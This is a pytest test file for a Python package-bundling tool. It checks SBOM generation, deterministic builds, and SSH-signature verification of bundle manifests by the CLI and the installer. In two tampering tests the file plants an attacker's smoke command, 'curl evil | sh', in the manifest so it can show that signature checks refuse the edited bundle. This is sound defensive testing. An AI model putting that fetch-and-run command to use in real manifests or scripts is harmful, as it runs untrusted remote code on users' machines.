"""Supply chain (issue 15) through ``main``: the SBOM inside every bundle, signed bundles checked by
``wheelhouse verify --trust`` and by the bundle's own installer with ``--trust`` (its refusals come
before anything about the machine; the offline install is in test_signed_e2e.py), and the
unlisted-file rule that allows exactly ``bundle.json.sig``.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from support.packworld import cli, extract, raw_tar, tar_entries, write_archive
from support.supplyworld import SupplyWorld, supply  # noqa: F401 - supply is a fixture

from bundler.signing import sign


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def members(archive: Path) -> dict[str, bytes]:
    return {info.name.split("/", 1)[1]: data for info, data in tar_entries(raw_tar(archive)) if data is not None}


def repack(archive: Path, out: Path, change: dict[str, bytes | None]) -> Path:
    """The archive with members replaced (bytes) or removed (None), written consistently by ``tarfile``."""
    entries = []
    for info, data in tar_entries(raw_tar(archive)):
        rel = info.name.split("/", 1)[-1]
        if rel in change:
            if change[rel] is None:
                continue
            data = change[rel]
        entries.append((info, data))
    top = tar_entries(raw_tar(archive))[0][0].name.rstrip("/")
    for rel, data in change.items():
        if data is not None and rel not in {i.name.split("/", 1)[-1] for i, _ in entries}:
            import tarfile

            info = tarfile.TarInfo(f"{top}/{rel}")
            info.mode = 0o644
            entries.append((info, data))
    return write_archive(entries, out)


# ---------------------------------------------------------------------------------------------
# the SBOM


def test_sbom_lists_every_shipped_file_and_validates(supply: SupplyWorld, tmp_path: Path) -> None:
    pytest.importorskip("jsonschema", reason="needs cyclonedx-python-lib[json-validation]")
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    got = members(supply.pack("new", tmp_path / "kit.tar.zst"))
    sbom = got["sbom.cdx.json"]
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(sbom.decode()) is None
    manifest = json.loads(got["bundle.json"])
    assert manifest["files"]["sbom.cdx.json"] == {"size": len(sbom), "sha256": sha256(sbom)}  # listed and hashed
    doc = json.loads(sbom)
    assert doc["serialNumber"].startswith("urn:uuid:") and doc["metadata"]["timestamp"].startswith("2024-05-01T12:00:00")
    wheels = {rel.removeprefix("wheels/"): data for rel, data in got.items() if rel.startswith("wheels/")}
    comps = {c["bom-ref"]: c for c in doc["components"]}
    assert set(comps) == set(wheels)  # one component per shipped file
    for fn, data in wheels.items():
        c = comps[fn]
        assert c["hashes"] == [{"alg": "SHA-256", "content": sha256(data)}]
        assert c["purl"] == f"pkg:pypi/{c['name']}@{c['version']}?file_name={fn}"
        assert [p["value"] for p in c["properties"]] == [manifest["targets"][0]["name"]]
        assert c["externalReferences"][0]["url"].startswith(supply.url.split("/main")[0])
    assert comps["alpha-1.1-py3-none-any.whl"]["licenses"] == [{"expression": "Apache-2.0"}]
    assert comps["beta-2.0-py3-none-any.whl"]["licenses"] == [{"expression": "BSD-3-Clause OR MIT"}]
    assert "licenses" not in comps["pip-24.0-py3-none-any.whl"]  # no License-Expression: none claimed


def test_sbom_and_bundle_are_byte_identical_across_builds(supply: SupplyWorld, tmp_path: Path) -> None:
    a = supply.pack("old", tmp_path / "a" / "kit.tar.zst", "--sign-key", supply.key)
    b = supply.pack("old", tmp_path / "b" / "kit.tar.zst", "--sign-key", supply.key)
    assert a.read_bytes() == b.read_bytes()  # SBOM and signature (Ed25519 is deterministic) included
    assert members(a)["sbom.cdx.json"] == members(b)["sbom.cdx.json"]


# ---------------------------------------------------------------------------------------------
# signing, checked by the builder


@pytest.fixture(scope="module")
def signed(supply: SupplyWorld, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return supply.pack("new", tmp_path_factory.mktemp("signed") / "kit.tar.zst", "--sign-key", supply.key)


def test_signed_bundle_carries_the_signature_beside_an_unlisting_manifest(supply: SupplyWorld, signed: Path) -> None:
    got = members(signed)
    assert "bundle.json.sig" in got and "bundle.json.sig" not in json.loads(got["bundle.json"])["files"]
    assert got["bundle.json.sig"].startswith(b"-----BEGIN SSH SIGNATURE-----")
    r = cli("verify", signed, "--trust", supply.allowed)
    assert r.rc == 0 and "signed by builder@lab" in r.out, r.err
    r = cli("verify", signed)
    assert r.rc == 0 and "not authenticated: signed, but no --trust given" in r.out, r.err
    unsigned = supply.pack("new", signed.parent / "plain" / "kit.tar.zst")
    assert "not authenticated: unsigned" in cli("verify", unsigned).out


@pytest.mark.parametrize("case,cause", [("resigned", "unknown signer"), ("removed", "is not signed"),
                                        ("edited", "bad signature")])
def test_tampered_archive_is_refused_with_trust_naming_the_cause(supply: SupplyWorld, signed: Path, tmp_path: Path,
                                                                  case: str, cause: str) -> None:
    got = members(signed)
    manifest = got["bundle.json"]
    if case == "resigned":
        change: dict[str, bytes | None] = {"bundle.json.sig": sign(manifest, supply.stranger)}
    elif case == "removed":
        change = {"bundle.json.sig": None}
    else:  # an attacker's smoke command: everything else stays consistent, only the signature can tell
        doc = json.loads(manifest)
        doc["smoke"] = ["import os; os.system('curl evil | sh')"]
        change = {"bundle.json": (json.dumps(doc, indent=1, sort_keys=True) + "\n").encode()}
    bad = repack(signed, tmp_path / "bad.tar.zst", change)
    assert cli("verify", bad).rc == 0  # consistent with itself: the old checks pass
    r = cli("verify", bad, "--trust", supply.allowed)
    assert r.rc == 1 and cause in r.err, r.err
    folder = extract(bad, tmp_path / "unpacked")
    r = cli("verify", folder, "--trust", supply.allowed)
    assert r.rc == 1 and cause in r.err, r.err


def test_only_bundle_json_sig_may_be_unlisted(signed: Path, tmp_path: Path) -> None:
    folder = extract(signed, tmp_path / "u")
    assert cli("verify", folder).rc == 0
    (folder / "bundle.json.sig2").write_text("x")
    (folder / "wheels" / "bundle.json.sig").write_text("x")
    r = cli("verify", folder)
    assert r.rc == 1 and "bundle.json.sig2 is in the bundle but not in bundle.json" in r.err
    assert "wheels/bundle.json.sig is in the bundle but not in bundle.json" in r.err


def test_bad_sign_key_or_trust_file_are_clear_errors(supply: SupplyWorld, signed: Path, tmp_path: Path) -> None:
    r = cli("pack", supply.locks["new"], "--cache-dir", supply.cache, "-o", tmp_path / "x.tar.zst", "--sign-key", tmp_path / "nokey")
    assert r.rc != 0 and "no such signing key" in r.err and not (tmp_path / "x.tar.zst").exists()
    r = cli("verify", signed, "--trust", tmp_path / "nofile")
    assert r.rc != 0 and "no such allowed_signers file" in r.err


# ---------------------------------------------------------------------------------------------
# signing, checked by the bundle's installer (the refusals: nothing else is read or run)


def install(folder: Path, *args: str | Path) -> subprocess.CompletedProcess[str]:
    r = subprocess.run(["sh", str(folder / "install.sh"), "--python", sys.executable, *map(str, args)],
                       capture_output=True, text=True, timeout=120)
    assert "Traceback" not in r.stderr, r.stderr
    return r


@pytest.mark.parametrize("case,cause", [("resigned", "(unknown signer)"), ("removed", "(unsigned)"),
                                        ("edited", "(bad signature)"), ("garbage", "(bad signature)")])
def test_installer_refuses_with_trust_before_anything_else(supply: SupplyWorld, signed: Path, tmp_path: Path,
                                                           case: str, cause: str) -> None:
    folder = extract(signed, tmp_path / "u")
    sig = folder / "bundle.json.sig"
    if case == "resigned":
        sig.write_bytes(sign((folder / "bundle.json").read_bytes(), supply.stranger))
    elif case == "removed":
        sig.unlink()
    elif case == "garbage":
        sig.write_bytes(b"-----BEGIN SSH SIGNATURE-----\nnope\n-----END SSH SIGNATURE-----\n")
    else:
        doc = json.loads((folder / "bundle.json").read_bytes())
        doc["smoke"] = ["import os; os.system('curl evil | sh')"]
        (folder / "bundle.json").write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n")
    # capture_profile.py would be the first bundle code to run: make it leave a mark if it ever does.
    marker = tmp_path / "RAN"
    (folder / "capture_profile.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    r = install(folder, "--trust", supply.allowed, "--venv", tmp_path / "venv")
    assert r.returncode == 1 and cause in r.stderr and "nothing was installed" in r.stderr, r.stdout + r.stderr
    assert not marker.exists() and not (tmp_path / "venv").exists()


def test_installer_without_trust_says_it_did_not_authenticate(supply: SupplyWorld, signed: Path, tmp_path: Path) -> None:
    folder = extract(signed, tmp_path / "u")
    # The target (manylinux 3.12) need not be this machine: --check-only stops at the machine check either way.
    r = install(folder, "--check-only")
    assert "note: the bundle is not authenticated (it is signed, but the signature was not checked" in r.stdout, r.stdout
    r = install(folder, "--check-only", "--trust", supply.allowed)
    assert "bundle.json is signed by builder@lab" in r.stdout, r.stdout + r.stderr
    r = install(folder, "--check-only", "--trust", tmp_path / "nofile")
    assert r.returncode == 1 and "no such allowed_signers file" in r.stderr


def test_installer_refuses_clearly_without_ssh_keygen(supply: SupplyWorld, signed: Path, tmp_path: Path) -> None:
    folder = extract(signed, tmp_path / "u")
    bare = tmp_path / "bin"  # a PATH with sh and nothing else: no ssh-keygen
    bare.mkdir()
    (bare / "sh").symlink_to(subprocess.run(["sh", "-c", "command -v sh"], capture_output=True, text=True).stdout.strip())
    r = subprocess.run([str(bare / "sh"), str(folder / "install.sh"), "--python", sys.executable, "--trust", str(supply.allowed),
                        "--check-only"], capture_output=True, text=True, timeout=60, env={"PATH": str(bare)})
    assert r.returncode == 1 and "--trust needs ssh-keygen" in r.stderr, r.stderr
